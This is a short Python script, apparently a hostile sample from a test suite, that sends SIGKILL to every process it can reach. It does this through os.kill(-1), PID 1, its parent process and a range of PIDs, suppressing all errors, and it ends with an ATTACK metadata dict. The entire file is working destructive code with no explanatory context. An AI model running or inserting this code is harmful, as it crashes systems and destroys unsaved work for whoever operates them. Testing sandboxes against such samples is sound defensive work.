"""Sends SIGKILL to every process it may."""

import os
import signal

for number in (-1, 1, os.getppid(), *range(2, 5000)):
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass


ATTACK = {'stock': False}
